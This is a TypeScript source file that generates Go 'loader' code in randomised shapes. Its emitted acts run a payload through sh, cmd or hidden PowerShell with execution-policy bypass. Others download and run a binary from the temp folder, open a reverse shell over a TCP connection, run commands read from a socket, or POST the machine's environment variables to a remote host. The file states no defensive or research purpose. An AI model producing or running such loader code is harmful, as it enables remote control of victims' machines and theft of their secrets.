import { indented, type LoaderCode, quoted } from './loaderCode.ts';
import { harmlessWord } from './loaderNames.ts';
import type { Act } from './loaderStyle.ts';

/** What an act is written with. */
export interface ActParts {
  readonly code: LoaderCode;
  /** An expression of type string: the payload. */
  readonly main: string;
  /** Gives an expression for a text beside the payload: hidden as well, or as it is. */
  readonly say: (text: string) => string;
  /** The statement that leaves the function. */
  readonly leave: string;
  /** Whether the file is built for Windows alone. */
  readonly onWindows: boolean;
}

/** Statements that do the act. */
export function writeAct(act: Act, parts: ActParts): string[] {
  return ACTS_IN_GO[act](parts);
}

const ACTS_IN_GO: Readonly<Record<Act, (parts: ActParts) => string[]>> = {
  shell,
  powershell,
  download,
  dial,
  'start-process': startProcess,
};

function shell(parts: ActParts): string[] {
  const { code, main, say, onWindows } = parts;
  // A file that is built for Windows alone has no other shell to start.
  if (onWindows) return started(['cmd', '/C'].map(say), main, parts);
  const program = code.random.pick(['/bin/sh', '/bin/bash', 'sh', 'bash']);
  return started([program, code.random.chance(0.9) ? '-c' : '-lc'].map(say), main, parts);
}

function powershell(parts: ActParts): string[] {
  const { code, main, say, leave, onWindows } = parts;
  const { random } = code;
  const program = random.pick(['powershell', 'powershell.exe', 'pwsh']);
  const flags = random.pick([
    ['-NoProfile', '-Command'],
    ['-WindowStyle', 'Hidden', '-Command'],
    ['-nop', '-w', 'hidden', '-c'],
    ['-ExecutionPolicy', 'Bypass', '-NoProfile', '-Command'],
  ]);
  const guard =
    !onWindows && random.chance(0.5)
      ? [`if ${code.use('runtime')}.GOOS != "windows" {`, `\t${leave}`, '}']
      : [];
  return [...guard, ...started([say(program), ...flags.map(quoted)], main, parts)];
}

/** Starts `words` with the payload as the last argument. */
function started(words: readonly string[], main: string, parts: ActParts): string[] {
  const { code, onWindows } = parts;
  const { random } = code;
  const exec = code.use('os/exec');
  const all = [...words, main];
  const shape = random.below(6);
  if (shape === 0 && !onWindows)
    return [`_ = ${exec}.Command(${all.join(', ')}).${random.pick(['Start', 'Run'])}()`];
  if (shape === 1)
    return [
      `${exec}.Command(${all.join(', ')}).${random.pick(['Start', 'Run', 'Output', 'CombinedOutput'])}()`,
    ];
  const command = code.names.fresh();
  const made = commandMade(shape, all, exec, command, code);
  const hidden =
    onWindows && random.chance(0.6)
      ? [`${command}.SysProcAttr = &${code.use('syscall')}.SysProcAttr{HideWindow: true}`]
      : [];
  const run = random.pick([
    [`_ = ${command}.Start()`],
    [`${command}.Run()`],
    [`if err := ${command}.Start(); err == nil {`, `\tgo ${command}.Wait()`, '}'],
    [`go ${command}.Run()`],
  ]);
  return [...made, ...hidden, ...run];
}

function commandMade(
  shape: number,
  all: readonly string[],
  exec: string,
  command: string,
  code: LoaderCode,
): string[] {
  if (shape === 2) {
    return [`${command} := ${exec}.CommandContext(${code.use('context')}.Background(), ${all.join(', ')})`];
  }
  if (shape === 3) {
    const list = code.names.fresh();
    return [
      `${list} := []string{${all.join(', ')}}`,
      `${command} := ${exec}.Command(${list}[0], ${list}[1:]...)`,
    ];
  }
  if (shape === 4) {
    const text = code.names.fresh();
    return [
      `${text} := ${all.at(-1)}`,
      `${command} := ${exec}.Command(${[...all.slice(0, -1), text].join(', ')})`,
    ];
  }
  return [`${command} := ${exec}.Command(${all.join(', ')})`];
}

function download(parts: ActParts): string[] {
  const { code, leave, say, onWindows } = parts;
  const { random, names } = code;
  const [answer, path] = [names.fresh(), names.fresh()];
  const os = code.use('os');
  const file = harmlessWord(random) + (onWindows || random.chance(0.2) ? '.exe' : '');
  const folder = random.chance(0.8) ? `${os}.TempDir()` : `${os}.Getenv("HOME")`;
  const failed = [`if err != nil {`, `\t${leave}`, '}'];
  const run = random.pick([
    () => `${code.use('os/exec')}.Command(${path}).Start()`,
    () => `_ = ${code.use('os/exec')}.Command(${path}).Run()`,
    () => `_, _ = ${os}.StartProcess(${path}, []string{${path}}, &${os}.ProcAttr{})`,
    // Plugins are for other systems than Windows.
    () =>
      onWindows
        ? `${code.use('os/exec')}.Command(${path}).Start()`
        : `_, _ = ${code.use('plugin')}.Open(${path})`,
  ])();
  return [
    ...fetched(answer, parts),
    ...failed,
    `defer ${answer}.Body.Close()`,
    `${path} := ${code.use('path/filepath')}.Join(${folder}, ${say(file)})`,
    ...saved(answer, path, os, failed, code),
    run,
  ];
}

function fetched(answer: string, { code, main }: ActParts): string[] {
  const { random, names } = code;
  const http = code.use('net/http');
  const shape = random.below(4);
  if (shape === 0) {
    const client = names.fresh();
    return [
      `${client} := &${http}.Client{Timeout: 30 * ${code.use('time')}.Second}`,
      `${answer}, err := ${client}.Get(${main})`,
    ];
  }
  if (shape === 1) {
    const request = names.fresh();
    return [
      `${request}, _ := ${http}.NewRequest("GET", ${main}, nil)`,
      `${answer}, err := ${http}.DefaultClient.Do(${request})`,
    ];
  }
  return [`${answer}, err := ${http}.Get(${main})`];
}

function saved(
  answer: string,
  path: string,
  os: string,
  failed: readonly string[],
  code: LoaderCode,
): string[] {
  const { random, names } = code;
  if (random.chance(0.5)) {
    const [content, read] = [names.fresh(), random.pick(['io', 'io/ioutil'])];
    const written =
      read === 'io'
        ? `${os}.WriteFile(${path}, ${content}, 0755)`
        : `${code.use(read)}.WriteFile(${path}, ${content}, 0755)`;
    return [
      `${content}, err := ${code.use(read)}.ReadAll(${answer}.Body)`,
      ...failed,
      random.chance(0.5) ? written : `if err := ${written}; err != nil {\n\t\t${failed[1]?.trim()}\n\t}`,
    ];
  }
  const file = names.fresh();
  return [
    `${file}, err := ${os}.${random.chance(0.5) ? `Create(${path})` : `OpenFile(${path}, ${os}.O_CREATE|${os}.O_WRONLY, 0700)`}`,
    ...failed,
    `${code.use('io')}.Copy(${file}, ${answer}.Body)`,
    `${file}.Close()`,
    `${os}.Chmod(${path}, 0755)`,
  ];
}

function dial(parts: ActParts): string[] {
  const { code, main, leave, say, onWindows } = parts;
  const { random, names } = code;
  if (random.chance(0.2)) return posted(parts);
  const connection = names.fresh();
  const net = code.use('net');
  const opened = random.pick([
    () => `${net}.Dial("tcp", ${main})`,
    () => `${net}.DialTimeout("tcp", ${main}, 5*${code.use('time')}.Second)`,
    () => `(&${net}.Dialer{}).Dial("tcp", ${main})`,
  ])();
  const head = [`${connection}, err := ${opened}`, 'if err != nil {', `\t${leave}`, '}'];
  if (random.chance(0.5)) {
    const command = names.fresh();
    const program = onWindows ? 'cmd.exe' : random.pick(['/bin/sh', '/bin/bash']);
    return [
      ...head,
      `${command} := ${code.use('os/exec')}.Command(${say(program)})`,
      `${command}.Stdin, ${command}.Stdout, ${command}.Stderr = ${connection}, ${connection}, ${connection}`,
      `${command}.Run()`,
    ];
  }
  const line = names.fresh();
  const exec = code.use('os/exec');
  const body = [
    `${line}, err := ${code.use('bufio')}.NewReader(${connection}).ReadString('\\n')`,
    'if err != nil {',
    `\t${leave}`,
    '}',
    `${exec}.Command(${say(onWindows ? 'cmd' : 'sh')}, ${quoted(onWindows ? '/C' : '-c')}, ${line}).Start()`,
  ];
  return random.chance(0.5) ? [...head, ...body] : [...head, 'for {', ...indented(body), '}'];
}

/** What the machine knows of itself is sent away. */
function posted({ code, main }: ActParts): string[] {
  const [http, strings, os] = ['net/http', 'strings', 'os'].map((path) => code.use(path));
  const [said, address] = [code.names.fresh(), code.names.fresh()];
  return [
    `${said} := ${strings}.NewReader(${strings}.Join(${os}.Environ(), "\\n"))`,
    `${address} := "http://" + ${main} + "/"`,
    `${http}.Post(${address}, "text/plain", ${said})`,
  ];
}

function startProcess(parts: ActParts): string[] {
  const { code, main, say, leave, onWindows } = parts;
  const { random, names } = code;
  const os = code.use('os');
  const program = onWindows ? 'C:\\Windows\\System32\\cmd.exe' : random.pick(['/bin/sh', '/bin/bash']);
  const list = names.fresh();
  const flag = onWindows ? '/C' : '-c';
  const attributes = random.pick([
    `&${os}.ProcAttr{}`,
    `&${os}.ProcAttr{Files: []*${os}.File{nil, nil, nil}}`,
    `&${os}.ProcAttr{Dir: ${os}.TempDir(), Env: ${os}.Environ()}`,
  ]);
  const head = [`${list} := []string{${say(program)}, ${quoted(flag)}, ${main}}`];
  if (random.chance(0.25)) {
    const syscall = code.use('syscall');
    return random.chance(0.5)
      ? [...head, `_ = ${syscall}.Exec(${list}[0], ${list}, ${os}.Environ())`]
      : [...head, `${syscall}.StartProcess(${list}[0], ${list}, &${syscall}.ProcAttr{Env: ${os}.Environ()})`];
  }
  if (random.chance(0.5)) return [...head, `_, _ = ${os}.StartProcess(${list}[0], ${list}, ${attributes})`];
  const started = names.fresh();
  return [
    ...head,
    `${started}, err := ${os}.StartProcess(${list}[0], ${list}, ${attributes})`,
    'if err != nil {',
    `\t${leave}`,
    '}',
    `${started}.Release()`,
  ];
}
